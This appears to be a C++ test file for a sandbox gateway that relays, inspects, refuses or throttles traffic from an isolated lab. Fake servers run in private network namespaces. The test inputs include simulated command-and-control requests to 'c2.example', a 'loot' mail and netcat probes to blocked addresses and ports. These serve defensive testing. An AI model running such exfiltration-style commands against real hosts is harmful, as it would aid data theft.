// An open run against an Internet of our own making: a network behind the one that the broker stands in, in
// which /usr/bin/python3 plays the servers. No packet leaves this test's namespaces.
#include <gmock/gmock.h>
#include <sys/socket.h>

#include <thread>

#include "cell/network.h"
#include "gateway/broker.h"
#include "gateway/testing.h"

namespace shikake::gateway {
namespace {

using testing::HasSubstr;
using testing::StartsWith;

// A web server that says what it was asked for, one over TLS (its certificate comes on stdin), an echo over
// UDP, and a name server that knows every name by one address.
constexpr const char* servers = R"(
import http.server, socket, ssl, sys, threading
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ('real ' + self.headers.get('Host', '') + self.path + '\n').encode()
        self.send_response(200); self.send_header('Content-Length', str(len(body))); self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        self.rfile.read(int(self.headers['Content-Length'])); self.do_GET()
    def log_message(self, *a): pass
def web(port, context=None):
    server = http.server.ThreadingHTTPServer(('203.0.113.10', port), Page)
    if context: server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain(sys.argv[1])
web(80); web(8080); web(443, context)
def echo():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('203.0.113.10', 7007))
    while True:
        data, peer = s.recvfrom(2000); s.sendto(b'echo ' + data, peer)
def names():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('192.0.2.53', 53))
    while True:
        data, peer = s.recvfrom(2000)
        end = data.index(b'\0', 12) + 5
        known = data[end - 4:end - 2] == b'\0\1'
        reply = data[:2] + b'\x81\x80\0\1' + (b'\0\1' if known else b'\0\0') + b'\0\0\0\0' + data[12:end]
        if known: reply += b'\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4' + bytes([203, 0, 113, 10])
        s.sendto(reply, peer)
for f in (echo, names): threading.Thread(target=f, daemon=True).start()
print('up', flush=True)
threading.Event().wait()
)";

// The network that the broker stands in (here), and an Internet behind it.
class World {
 public:
  World() {
    auto built = build();
    if (!built) ADD_FAILURE() << built.error().message();
  }

 private:
  Result<> build() {
    SHIKAKE_ASSIGN(base::UniqueFd here, cell::current_network());
    std::optional<Result<>> made;
    std::thread([&] { made = build_internet(here); }).join();
    SHIKAKE_TRY(*made);
    SHIKAKE_ASSIGN(auto ours, cell::NetworkDevices::open());
    SHIKAKE_TRY(ours.bring_up("lo"));
    SHIKAKE_TRY(ours.bring_up("uplink"));
    SHIKAKE_TRY(ours.add_address("uplink", {"198.51.100.2", 24}));
    SHIKAKE_TRY(ours.add_route("uplink", {"0.0.0.0", 0}, "198.51.100.1"));
    return start_servers();
  }

  Result<> build_internet(const base::UniqueFd& here) {
    SHIKAKE_ASSIGN(internet_, cell::enter_new_network());
    // The servers are an ordinary user's.
    base::UniqueFd ports(open("/proc/sys/net/ipv4/ip_unprivileged_port_start", O_WRONLY | O_CLOEXEC));
    if (!ports || write(ports.get(), "0", 1) != 1) return fail_errno(Module::gateway, "low ports");
    SHIKAKE_ASSIGN(auto devices, cell::NetworkDevices::open());
    SHIKAKE_TRY(devices.add_cable("inside", "uplink", here));
    SHIKAKE_TRY(devices.bring_up("lo"));
    SHIKAKE_TRY(devices.bring_up("inside"));
    SHIKAKE_TRY(devices.add_address("inside", {"198.51.100.1", 24}));
    for (const char* address : {"203.0.113.10", "192.0.2.53"})
      SHIKAKE_TRY(devices.add_address("lo", {address, 32}));
    return {};
  }

  Result<> start_servers() {
    const std::string pem = (folder_ / "server.pem").string();
    const std::string make = "openssl req -x509 -newkey rsa:2048 -nodes -keyout " + pem + " -out " + pem +
                             ".crt -subj /CN=real -days 2 2>/dev/null && cat " + pem + ".crt >> " + pem;
    if (std::system(make.c_str()) != 0) return fail(Module::gateway, ErrorCode::io, "no certificate");
    SHIKAKE_TRY(base::write_file_atomically(folder_ / "servers.py", servers));
    int ends[2];
    if (pipe(ends) != 0) return fail_errno(Module::gateway, "no pipe");
    auto child = cell::spawn({}, [&] {
      if (!cell::enter_network(internet_)) return 1;
      dup2(ends[1], 1);
      execl("/usr/bin/python3", "python3", (folder_ / "servers.py").c_str(), pem.c_str(), nullptr);
      return 127;
    });
    if (!child) return fail(child.error());
    servers_.emplace(std::move(*child));
    close(ends[1]);
    char said = 0;
    if (read(ends[0], &said, 1) != 1)
      return fail(Module::gateway, ErrorCode::io, "the servers did not start");
    return {};
  }

  const TemporaryFolder own_;
  const std::filesystem::path& folder_ = own_.path();
  base::UniqueFd internet_;
  std::optional<cell::Contained> servers_;
};

Policy test_policy() {
  Policy policy;
  policy.resolver = "192.0.2.53";
  policy.egress.allow_documentation = true;
  return policy;
}

void in_open_lab(const Policy& policy, const std::function<void(Lab&)>& body, bool as_root = false) {
  in_private_network(as_root, [&] {
    World world;
    auto broker = Broker::start(policy);
    ASSERT_TRUE(broker) << broker.error().message();
    GatewayPlan plan;
    plan.mode = Mode::open;
    plan.broker_fd = broker->gateway_fd();
    Lab lab(plan);
    ASSERT_TRUE(lab.ok());
    broker->drop_gateway_end();
    body(lab);
    auto ended = lab.finish();
    EXPECT_TRUE(ended) << ended.error().message();
  });
}

const Decision* decision_for(const Seen& seen, std::string_view address, uint16_t port) {
  for (const Decision& decision : seen.decisions)
    if (decision.remote.address == address && decision.remote.port == port) return &decision;
  return nullptr;
}

class OpenAs : public testing::TestWithParam<bool> {};
INSTANTIATE_TEST_SUITE_P(Users, OpenAs, testing::Bool(),
                         [](const auto& parameter) { return parameter.param ? "root" : "ordinary"; });

TEST_P(OpenAs, ReachesTheRealServersAndLooksIntoTls) {
  in_open_lab(
      test_policy(),
      [](Lab& lab) {
        EXPECT_EQ(lab.run("curl -sS http://c2.example/task -d x").text, "real c2.example/task\n");
        EXPECT_EQ(lab.run("curl -sS https://c2.example/secret").text, "real c2.example/secret\n");
        EXPECT_EQ(lab.run("printf hi | nc -u -w 1 203.0.113.10 7007").text, "echo hi");
        EXPECT_TRUE(lab.gateway().look().value().leaks.empty());
        auto ended = lab.finish();
        ASSERT_TRUE(ended);
        EXPECT_GT(ended->relayed_bytes, 100U);
        int relayed = 0;
        for (const auto& [id, flow] : lab.seen.flows) {
          if (flow.transport != Transport::tcp) continue;
          ++relayed;
          EXPECT_EQ(flow.handling, Handling::relayed);
          EXPECT_EQ(flow.rule, "default");
          EXPECT_EQ(flow.protocol, "http");
          EXPECT_EQ(flow.host, "c2.example");
          EXPECT_EQ(flow.remote.address, "203.0.113.10");
          EXPECT_THAT(lab.seen.stream(flow, false), HasSubstr("real c2.example/"));
        }
        EXPECT_EQ(relayed, 2);
        ASSERT_FALSE(lab.seen.lookups.empty());
        EXPECT_EQ(lab.seen.lookups[0].rule, "resolver");
        EXPECT_EQ(lab.seen.decisions.size(), 3U);
      },
      GetParam());
}

TEST(Open, APinnedClientPassesUnopenedTheNextTime) {
  in_open_lab(test_policy(), [](Lab& lab) {
    lab.run(
        "c=$(mktemp); openssl req -x509 -newkey rsa:2048 -nodes -keyout /dev/null -out $c -subj /CN=other "
        "-days 1 "
        "2>/dev/null; curl -s --cacert $c https://pin.example/; rm -f $c");
    EXPECT_THAT(lab.run("sleep 0.2; echo | openssl s_client -connect 203.0.113.10:443 -servername "
                        "pin.example 2>/dev/null")
                    .text,
                HasSubstr("CN = real"));
    ASSERT_TRUE(lab.finish());
    int unopened = 0;
    for (const auto& [id, flow] : lab.seen.flows) unopened += flow.tls.rejected == "before";
    EXPECT_EQ(unopened, 1);
  });
}

TEST(Open, RefusesWhatItMustAndSinksMail) {
  in_open_lab(test_policy(), [](Lab& lab) {
    struct Row {
      const char* address;
      uint16_t port;
      const char* rule;
    };
    const Row rows[] = {
        {"10.1.2.3", 80, "private"},         {"169.254.169.254", 80, "link_local"},
        {"127.9.9.9", 80, nullptr},          {"198.51.100.2", 80, "own_address"},
        {"198.51.100.77", 80, "neighbour"},  {"203.0.113.10", 445, "attack_port"},
        {"203.0.113.10", 23, "attack_port"}, {"100.64.0.1", 80, "shared"},
        {"203.0.113.10", 81, "unreachable"},
    };
    for (const Row& row : rows)
      EXPECT_NE(
          lab.run("printf x | nc -w 2 " + std::string(row.address) + " " + std::to_string(row.port)).status,
          -1);
    EXPECT_EQ(
        lab.run("printf 'loot\\r\\n' | curl -sS smtp://203.0.113.10 --mail-from a@b.example --mail-rcpt "
                "c@d.example -T -")
            .status,
        0);
    auto ended = lab.finish();
    ASSERT_TRUE(ended);
    EXPECT_EQ(ended->relayed_bytes, 0U);
    for (const Row& row : rows) {
      const Decision* decision = decision_for(lab.seen, row.address, row.port);
      ASSERT_EQ(decision != nullptr, row.rule != nullptr) << row.address;
      if (!row.rule) continue;
      EXPECT_EQ(decision->rule, row.rule) << row.address;
      EXPECT_EQ(decision->verdict, Handling::refused) << row.address;
    }
    const Decision* mail = decision_for(lab.seen, "203.0.113.10", 25);
    ASSERT_TRUE(mail);
    EXPECT_EQ(mail->verdict, Handling::sunk);
    EXPECT_EQ(mail->rule, "mail");
  });
}

TEST(Open, BudgetsEndIt) {
  Policy policy = test_policy();
  policy.bytes_out = 20'000;
  policy.bytes_out_a_second = 0;
  in_open_lab(policy, [](Lab& lab) {
    lab.run("head -c 100000 /dev/zero | curl -s -m 5 http://203.0.113.10/ --data-binary @-");
    lab.run("curl -s -m 5 http://203.0.113.10/");
    ASSERT_TRUE(lab.finish());
    ASSERT_EQ(lab.seen.decisions.size(), 2U);
    EXPECT_EQ(lab.seen.decisions[0].rule, "default");
    EXPECT_EQ(lab.seen.decisions[1].rule, "bytes_out");
  });
}

TEST(Open, WhatComesInIsABudgetToo) {
  Policy policy = test_policy();
  policy.bytes_in = 30;  // less than a reply's head
  in_open_lab(policy, [](Lab& lab) {
    EXPECT_THAT(lab.run("curl -s -m 20 http://203.0.113.10/").text, testing::Not(HasSubstr("real")));
    lab.run("curl -s -m 20 http://203.0.113.10/");
    ASSERT_TRUE(lab.finish());
    ASSERT_EQ(lab.seen.decisions.size(), 2U);
    EXPECT_EQ(lab.seen.decisions[0].rule, "default");
    EXPECT_EQ(lab.seen.decisions[1].rule, "bytes_in");
    EXPECT_EQ(lab.seen.decisions[1].verdict, Handling::refused);
  });
}

// Sent later, not refused: three seconds' worth, of which the first goes at once.
TEST(Open, WhatGoesOutIsPaced) {
  Policy policy = test_policy();
  policy.bytes_out_a_second = 20'000;
  in_open_lab(policy, [](Lab& lab) {
    const auto before = std::chrono::steady_clock::now();
    EXPECT_THAT(
        lab.run("head -c 60000 /dev/zero | curl -sS -H 'Expect:' http://c2.example/slow --data-binary @-")
            .text,
        HasSubstr("real c2.example/slow"));
    EXPECT_GE(std::chrono::steady_clock::now() - before, std::chrono::milliseconds(1500));
    ASSERT_TRUE(lab.finish());
  });
}

TEST(Open, ABrokerThatIsGoneMeansNo) {
  in_private_network(false, [] {
    World world;
    GatewayPlan plan;
    plan.mode = Mode::open;
    std::optional<Broker> broker;
    auto started = Broker::start(test_policy());
    ASSERT_TRUE(started);
    broker.emplace(std::move(*started));
    plan.broker_fd = broker->gateway_fd();
    Lab lab(plan);
    ASSERT_TRUE(lab.ok());
    broker.reset();
    EXPECT_NE(lab.run("curl -s -m 5 http://203.0.113.10/").status, 0);
    ASSERT_TRUE(lab.finish());
    ASSERT_EQ(lab.seen.decisions.size(), 1U);
    EXPECT_EQ(lab.seen.decisions[0].rule, "broker");
  });
}

}  // namespace
}  // namespace shikake::gateway
